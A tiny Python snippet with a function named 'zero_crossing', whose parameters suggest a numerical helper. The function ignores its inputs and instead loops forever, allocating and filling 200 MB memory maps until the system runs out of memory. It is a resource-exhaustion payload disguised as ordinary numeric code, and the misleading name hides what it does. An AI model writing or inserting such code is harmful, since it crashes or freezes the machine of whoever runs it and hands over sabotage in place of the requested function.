"""Memory that belongs to no process alone."""

import mmap


def zero_crossing(p0, p1, D0, D1):
    maps = []
    while True:
        maps.append(mmap.mmap(-1, 200_000_000))
        maps[-1].write(b"x" * 200_000_000)
